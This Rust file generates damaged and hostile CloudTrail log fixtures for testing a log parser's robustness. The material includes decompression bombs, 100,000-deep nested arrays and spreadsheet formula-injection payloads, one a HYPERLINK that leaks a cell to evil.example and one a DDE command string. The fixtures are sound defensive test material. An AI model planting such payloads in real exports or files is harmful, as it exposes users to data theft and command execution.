//! The damaged-input fixture dump (`tests/fixtures/damaged/`): every input shape trailsift must
//! read and every kind of damage it must survive, one file per case.
//!
//! Every selected event has a readable eventID naming its case (`trunc-early`, `utf16le`, ...),
//! so a test can say exactly which events survive which damage. Cases that git cannot hold
//! (unreadable files, non-UTF-8 names, sockets) are made at test time instead.

use std::io::Write;
use std::path::Path;

use anyhow::Result;
use serde_json::{Value, json};

use crate::dump::{gzip, records_body, write_file};
use crate::synth::{Noise, Record, iam_user};

const ACCOUNT: &str = "111122223333";

/// A selected event (ChangePassword by a user named after the case) with a readable eventID.
pub fn credential(id: &str) -> Record {
    let mut rng = fastrand::Rng::with_seed(id.len() as u64);
    let user = format!("u-{id}");
    let mut r = Record::call(
        &mut rng,
        "2026-03-02T12:00:00Z",
        "iam.amazonaws.com",
        "ChangePassword",
        "us-east-1",
        iam_user(
            ACCOUNT,
            &user,
            "ASIAFIXTUREKEY000001",
            Some(true),
            "2026-03-02T11:00:00Z",
        ),
    );
    r.event_id = id.to_owned();
    r.recipient_account_id = ACCOUNT.to_owned();
    r.source_ip_address = "198.51.100.7".into();
    r.user_agent = "console.amazonaws.com".into();
    r
}

fn noise(n: usize, seed: u64) -> Vec<Record> {
    let mut rng = fastrand::Rng::with_seed(seed);
    let noise = Noise {
        accounts: vec![ACCOUNT.into()],
        users: vec!["nobody".into()],
        roles: vec!["app".into()],
    };
    (0..n)
        .map(|i| {
            noise.record(
                &mut rng,
                &format!("2026-03-02T12:{:02}:00Z", i % 60),
                ACCOUNT,
                "eu-west-1",
            )
        })
        .collect()
}

/// Noise records with the given credential events spread among them.
fn mixed(ids: &[&str], noise_each: usize, seed: u64) -> Vec<Record> {
    let mut out = Vec::new();
    for (i, id) in ids.iter().enumerate() {
        out.extend(noise(noise_each, seed + i as u64));
        out.push(credential(id));
    }
    out.extend(noise(noise_each, seed + 99));
    out
}

fn json_lines(records: &[Value]) -> String {
    records.iter().map(|r| format!("{r}\n")).collect()
}

fn value(r: &Record) -> Value {
    serde_json::to_value(r).expect("records serialise")
}

fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
    let mut out = if big_endian {
        vec![0xFE, 0xFF]
    } else {
        vec![0xFF, 0xFE]
    };
    for unit in text.encode_utf16() {
        out.extend(if big_endian {
            unit.to_be_bytes()
        } else {
            unit.to_le_bytes()
        });
    }
    out
}

/// Gzip with a fixed low level, for large, repetitive bodies.
fn gzip_fast(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::new(9));
    enc.write_all(data).expect("writing to memory");
    enc.finish().expect("writing to memory")
}

/// Writes the fixture dump under `root`. Returns the number of files.
pub fn generate(root: &Path) -> Result<usize> {
    let mut n = 0;
    let mut put = |rel: &str, bytes: &[u8]| -> Result<()> {
        write_file(root, Path::new(rel), bytes)?;
        n += 1;
        Ok(())
    };
    let records = |ids: &[&str], seed| records_body(&mixed(ids, 3, seed));

    // Shapes, judged by content.
    put(
        &format!(
            "AWSLogs/{ACCOUNT}/CloudTrail/us-east-1/2026/03/02/{ACCOUNT}_CloudTrail_us-east-1_20260302T1205Z_okokokokokokokok.json.gz"
        ),
        &gzip(records(&["ok-1"], 1).as_bytes()),
    )?;
    put(
        "shapes/plain-but-named.json.gz",
        records(&["plain-named-gz"], 2).as_bytes(),
    )?;
    put(
        "shapes/gzip-but-named.json",
        &gzip(records(&["gzip-named-json"], 3).as_bytes()),
    )?;
    let body = records(&["multi-1", "multi-2", "multi-3"], 4);
    let (a, b) = (body.len() / 3, body.len() * 2 / 3);
    let mut members = gzip(&body.as_bytes()[..a]);
    members.extend(gzip(&body.as_bytes()[a..b]));
    members.extend(gzip(&body.as_bytes()[b..]));
    put("shapes/multi-member.json.gz", &members)?;
    put(
        "shapes/bom.json",
        format!("\u{feff}{}", records(&["bom"], 5)).as_bytes(),
    )?;
    let pretty = serde_json::to_string_pretty(
        &json!({"Records": mixed(&["utf16le"], 2, 6).iter().map(value).collect::<Vec<_>>()}),
    )?;
    put(
        "shapes/powershell-utf16le.json",
        &utf16(&pretty.replace('\n', "\r\n"), false),
    )?;
    put(
        "shapes/utf16be.json.gz",
        &gzip(&utf16(&records(&["utf16be"], 7), true)),
    )?;
    // Sorted keys, pretty-printed, and the event name and source spelled with \u escapes: the
    // byte prefilter cannot see them, the decoder must.
    let mut parts: Vec<String> = noise(3, 8)
        .iter()
        .map(|r| serde_json::to_string_pretty(&value(r)).expect("json"))
        .collect();
    let escaped_record = serde_json::to_string_pretty(&value(&credential("escaped")))?
        .replace("\"ChangePassword\"", "\"Change\\u0050assword\"")
        .replace("\"iam.amazonaws.com\"", "\"i\\u0061m.amazonaws.com\"");
    parts.insert(1, escaped_record);
    let escaped = format!("{{\n  \"Records\": [\n{}\n  ]\n}}\n", parts.join(",\n"));
    put("shapes/pretty-sorted-escaped.json", escaped.as_bytes())?;
    let lines =
        |ids: &[&str], seed| json_lines(&mixed(ids, 2, seed).iter().map(value).collect::<Vec<_>>());
    put("shapes/events.jsonl", lines(&["jsonl"], 9).as_bytes())?;
    put(
        "shapes/events.ndjson.gz",
        &gzip(lines(&["ndjson-gz"], 10).as_bytes()),
    )?;
    put(
        "shapes/firehose.log",
        lines(&["firehose-log"], 11).as_bytes(),
    )?;
    let lookup = |r: &Record| json!({"EventId": r.event_id, "EventName": r.event_name, "EventTime": 1_772_452_800.0, "CloudTrailEvent": r.to_json()});
    let lookup_events: Vec<Value> = mixed(&["lookup"], 1, 12).iter().map(lookup).collect();
    put(
        "shapes/lookup-events.json",
        serde_json::to_string_pretty(&json!({"Events": lookup_events, "NextToken": "abc"}))?
            .as_bytes(),
    )?;
    put(
        "shapes/lookup-events.jsonl",
        json_lines(
            &mixed(&["lookup-jsonl"], 1, 13)
                .iter()
                .map(lookup)
                .collect::<Vec<_>>(),
        )
        .as_bytes(),
    )?;
    put(
        "shapes/array.json",
        serde_json::to_string_pretty(&mixed(&["array"], 2, 14))?.as_bytes(),
    )?;
    put(
        "shapes/single-record.json",
        serde_json::to_string_pretty(&credential("single"))?.as_bytes(),
    )?;
    let bridge = |r: &Record| json!({"version": "0", "id": "6f87d04b-9f74-4f04-a780-7acf4b0a9b38", "detail-type": "AWS API Call via CloudTrail", "source": "aws.iam", "account": ACCOUNT, "time": r.event_time, "region": "us-east-1", "resources": [], "detail": value(r)});
    put(
        "shapes/eventbridge.jsonl",
        json_lines(
            &mixed(&["eventbridge"], 1, 15)
                .iter()
                .map(bridge)
                .collect::<Vec<_>>(),
        )
        .as_bytes(),
    )?;
    put("shapes/mystery", records(&["mystery"], 16).as_bytes())?;
    put(
        "shapes/notes.txt",
        b"Case notes: the dump was synced twice on 2026-03-05.\n",
    )?;
    put(
        "shapes/random.bin",
        &(0..4096u32)
            .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
            .collect::<Vec<_>>(),
    )?;

    // Not event logs.
    let digest = json!({"awsAccountId": ACCOUNT, "digestStartTime": "2026-03-02T11:00:00Z", "digestEndTime": "2026-03-02T12:00:00Z", "digestS3Bucket": "b", "digestS3Object": "o", "newestEventTime": null, "oldestEventTime": null, "previousDigestS3Bucket": null, "previousDigestS3Object": null, "previousDigestHashValue": null, "previousDigestHashAlgorithm": null, "previousDigestSignature": null, "logFiles": []});
    put(
        &format!(
            "AWSLogs/{ACCOUNT}/CloudTrail-Digest/us-east-1/2026/03/02/{ACCOUNT}_CloudTrail-Digest_us-east-1_trail_us-east-1_20260302T120000Z.json.gz"
        ),
        &gzip(digest.to_string().as_bytes()),
    )?;
    put(
        "shapes/digest-outside-its-folder.json",
        digest.to_string().as_bytes(),
    )?;
    let insight = json!({"Records": [{"eventVersion": "1.08", "eventTime": "2026-03-02T12:00:00Z", "eventID": "insight-1", "eventType": "AwsCloudTrailInsight", "eventCategory": "Insight", "insightDetails": {"state": "Start", "eventName": "ChangePassword"}}]});
    put(
        &format!(
            "AWSLogs/{ACCOUNT}/CloudTrail-Insight/us-east-1/2026/03/02/{ACCOUNT}_CloudTrail-Insight_us-east-1_20260302T1205Z_insightinsight01.json.gz"
        ),
        &gzip(insight.to_string().as_bytes()),
    )?;
    put(
        "CloudTrail-Lake/query-1/result_1.csv.gz",
        &gzip(b"eventID,eventName\nlake-1,ChangePassword\n"),
    )?;

    // Damage.
    let body = records(&["trunc-early", "trunc-middle", "trunc-late"], 20);
    let gz = gzip(body.as_bytes());
    put("damage/truncated.json.gz", &gz[..gz.len() * 3 / 5])?;
    let body = records(&["trunc-json-early", "trunc-json-late"], 21);
    let cut = body.find("trunc-json-late").expect("present") - 40;
    put("damage/truncated-json.json", &body.as_bytes()[..cut])?;
    put(
        "damage/random.json.gz",
        &(0..2048u32)
            .map(|i| (i.wrapping_mul(40_503) >> 7) as u8 | 0x80)
            .collect::<Vec<_>>(),
    )?;
    let mut garbage = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    garbage.extend((0..2048u32).map(|i| (i.wrapping_mul(2_246_822_519) >> 11) as u8));
    put("damage/garbage-behind-gzip-header.json.gz", &garbage)?;
    put("damage/empty.json.gz", b"")?;
    put("damage/empty-gzip.json.gz", &gzip(b""))?;
    put("damage/no-records.json.gz", &gzip(br#"{"Records":[]}"#))?;
    put("damage/whitespace-only.json", b" \n\t\r\n ")?;
    let mut trailing = records(&["trailing"], 22).into_bytes();
    trailing.extend_from_slice(b"\n\0\0\0GARBAGE AFTER THE JSON");
    put("damage/trailing-garbage.json.gz", &gzip(&trailing))?;
    let body = records(&["mid-before", "mid-broken", "mid-after"], 23);
    // Drop the `}` that closes the broken record's userIdentity.
    let identity_end = body
        .find("\"userName\":\"u-mid-broken\"}")
        .expect("identity")
        + "\"userName\":\"u-mid-broken\"".len();
    let broken = format!("{}{}", &body[..identity_end], &body[identity_end + 1..]);
    put(
        "damage/broken-record-in-the-middle.json.gz",
        &gzip(broken.as_bytes()),
    )?;
    let good = |id: &str| value(&credential(id)).to_string();
    let bad_lines = format!(
        "{}\n{}\nnot json at all\n{{\"eventName\":[}}\n{}\n",
        good("jsonl-good-1"),
        &good("jsonl-cut")[..120],
        good("jsonl-good-2")
    );
    put("damage/bad-lines.jsonl", bad_lines.as_bytes())?;

    // Hostile records.
    put("hostile/hostile-records.json.gz", &gzip(&hostile()))?;

    // The second round of hostile archives: items that are not records before real ones,
    // lines longer than the sniff window, text a strict parser refuses.
    round_two(&digest, &insight, &mut put)?;

    // Bombs: memory must stay bounded and garbage must not be decompressed to the end.
    put("bombs/zeros.json.gz", &gzip_fast(&vec![0u8; 256 << 20]))?;
    let mut spaced = b"{\"Records\":[".to_vec();
    spaced.resize(spaced.len() + (64 << 20), b' ');
    spaced.extend_from_slice(value(&credential("bomb-survivor")).to_string().as_bytes());
    spaced.extend_from_slice(b"]}");
    put("bombs/whitespace.json.gz", &gzip_fast(&spaced))?;

    // Links (git keeps symbolic links).
    #[cfg(unix)]
    {
        let links = root.join("links");
        std::fs::create_dir_all(&links)?;
        std::os::unix::fs::symlink("..", links.join("loop"))?;
        std::os::unix::fs::symlink("missing.json.gz", links.join("dangling.json.gz"))?;
        n += 2;
    }
    Ok(n)
}

/// The second round of hostile inputs (`round-2/`), one file per case; each selected event's
/// eventID names its case.
fn round_two(
    digest: &Value,
    insight: &Value,
    put: &mut dyn FnMut(&str, &[u8]) -> Result<()>,
) -> Result<()> {
    let good = |id: &str| value(&credential(id)).to_string();
    let insight_event = insight["Records"][0].to_string();
    // Not a record first: the records after it still count.
    put(
        "round-2/empty-object-first.json",
        format!("{{\"Records\":[{{}},{}]}}", good("r2-after-empty")).as_bytes(),
    )?;
    put(
        "round-2/foreign-object-first.json",
        format!("{{\"Records\":[{{\"foo\":1}},{}]}}", good("r2-after-foo")).as_bytes(),
    )?;
    put(
        "round-2/digest-first.json",
        format!("[{digest},{}]", good("r2-after-digest")).as_bytes(),
    )?;
    put(
        "round-2/insight-first.json.gz",
        &gzip(
            format!(
                "{{\"Records\":[{insight_event},{}]}}",
                good("r2-after-insight")
            )
            .as_bytes(),
        ),
    )?;
    put(
        "round-2/siem-header.jsonl",
        format!(
            "{{\"columns\":[\"eventTime\",\"eventName\"],\"query\":\"index=cloudtrail\"}}\n{}\n{}\n",
            good("r2-siem-1"),
            good("r2-siem-2")
        )
        .as_bytes(),
    )?;
    // Files of nothing but one kind of non-record keep their kinds.
    put(
        "round-2/insights-only.json",
        format!("{{\"Records\":[{insight_event},{insight_event}]}}").as_bytes(),
    )?;
    put(
        "round-2/digests-only.jsonl",
        format!("{digest}\n{digest}\n").as_bytes(),
    )?;
    // JSON Lines whose first line is longer than the sniff window.
    let mut long = value(&credential("r2-long-first"));
    long["userAgent"] = json!("L".repeat(100_000));
    let cut = good("r2-cut");
    put(
        "round-2/long-first-line.jsonl",
        format!(
            "{long}\n{}\n{}\n{}\n",
            &cut[..cut.len() / 2],
            good("r2-after-cut-1"),
            good("r2-after-cut-2")
        )
        .as_bytes(),
    )?;
    put(
        "round-2/long-garbage-line.jsonl",
        format!(
            "{}\n{}\n{}\n",
            "not json ".repeat(12_000),
            good("r2-after-garbage-1"),
            good("r2-after-garbage-2")
        )
        .as_bytes(),
    )?;
    // Text a strict parser refuses: kept, and noted.
    let mut r = value(&credential("r2-lone-surrogate"));
    r["userAgent"] = json!("LONE_SURROGATE");
    r["awsRegion"] = json!("HUGE_NUMBER");
    let text = r
        .to_string()
        .replace("\"LONE_SURROGATE\"", "\"evil \\ud800 agent\"")
        .replace("\"HUGE_NUMBER\"", "1e999");
    put(
        "round-2/lone-surrogate-and-huge-number.json",
        format!("{{\"Records\":[{text}]}}").as_bytes(),
    )?;
    let mut r = value(&credential("r2-odd-types"));
    r["userIdentity"]["userName"] = json!(["u-r2-odd-types", {"nested": true}]);
    r["sourceIPAddress"] = json!(3232235777u64);
    put(
        "round-2/odd-types.json",
        format!("{{\"Records\":[{r}]}}").as_bytes(),
    )?;
    let text = good("r2-duplicate-keys").replacen(
        "\"eventName\":\"ChangePassword\"",
        "\"eventName\":\"GetUser\",\"eventName\":\"ChangePassword\"",
        1,
    );
    put(
        "round-2/duplicate-keys.json",
        format!("{{\"Records\":[{text}]}}").as_bytes(),
    )?;
    // Two files concatenated with `cat`, each with its byte-order mark.
    let mut cat = Vec::new();
    for id in ["r2-bom-1", "r2-bom-2"] {
        cat.extend_from_slice(b"\xEF\xBB\xBF");
        cat.extend_from_slice(format!("{{\"Records\":[{}]}}\n", good(id)).as_bytes());
    }
    put("round-2/bom-concatenated.json", &cat)?;
    Ok(())
}

/// Records built to break parsers, with the credential events that must survive them.
fn hostile() -> Vec<u8> {
    let deep = |n: usize| format!("{}1{}", "[".repeat(n), "]".repeat(n));
    let mut records: Vec<String> = Vec::new();
    let mut noisy = value(&noise(1, 30)[0]);
    noisy["requestParameters"] = json!({"x": "DEEP"});
    records.push(noisy.to_string().replace("\"DEEP\"", &deep(100_000)));
    let mut r = value(&credential("hostile-deep"));
    r["requestParameters"] = json!({"unknownField": "DEEP"});
    records.push(r.to_string().replace("\"DEEP\"", &deep(100_000)));
    let mut r = value(&credential("hostile-long"));
    r["userAgent"] = json!("A".repeat(20 << 20));
    records.push(r.to_string());
    records.extend([
        "42".to_owned(),
        "\"a string\"".to_owned(),
        "null".to_owned(),
        "[1,{\"eventName\":\"ChangePassword\"}]".to_owned(),
    ]);
    let mut r = value(&credential("hostile-no-identity"));
    r.as_object_mut().expect("object").remove("userIdentity");
    records.push(r.to_string());
    records.push(json!({"eventVersion": null, "userIdentity": null, "eventTime": null, "eventSource": "iam.amazonaws.com", "eventName": "ChangePassword", "awsRegion": null, "sourceIPAddress": null, "userAgent": null, "requestParameters": null, "responseElements": null, "requestID": null, "eventID": "hostile-nulls", "eventType": null, "recipientAccountId": null}).to_string());
    let mut r = value(&credential("hostile-future"));
    r["eventVersion"] = json!("9.99");
    r["someFutureField"] = json!({"nested": [{"deeper": {"x": true}}], "n": 1e300});
    r["userIdentity"]["futureIdentityField"] = json!(["a", 1, null]);
    records.push(r.to_string());
    let mut r = value(&credential("hostile-utf8"));
    r["userAgent"] = json!("INVALID_UTF8_HERE");
    records.push(r.to_string());
    let mut r = value(&credential("hostile-formula"));
    r["userAgent"] = json!("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")");
    r["userIdentity"]["userName"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
    r["errorMessage"] = json!("-2+3");
    records.push(r.to_string());
    // Valid brackets, invalid JSON, and selected by its bytes: decoded and found wanting.
    records.push(r#"{"eventSource":"iam.amazonaws.com","eventName":"ChangePassword","eventID":"hostile-undecodable","eventTime": tru}"#.to_owned());
    let mut body = format!("{{\"Records\":[{}]}}", records.join(",")).into_bytes();
    let marker = b"INVALID_UTF8_HERE";
    let at = body
        .windows(marker.len())
        .position(|w| w == marker)
        .expect("marker");
    body.splice(
        at..at + marker.len(),
        b"bad \xff\xfe bytes \xc3(".iter().copied(),
    );
    body
}
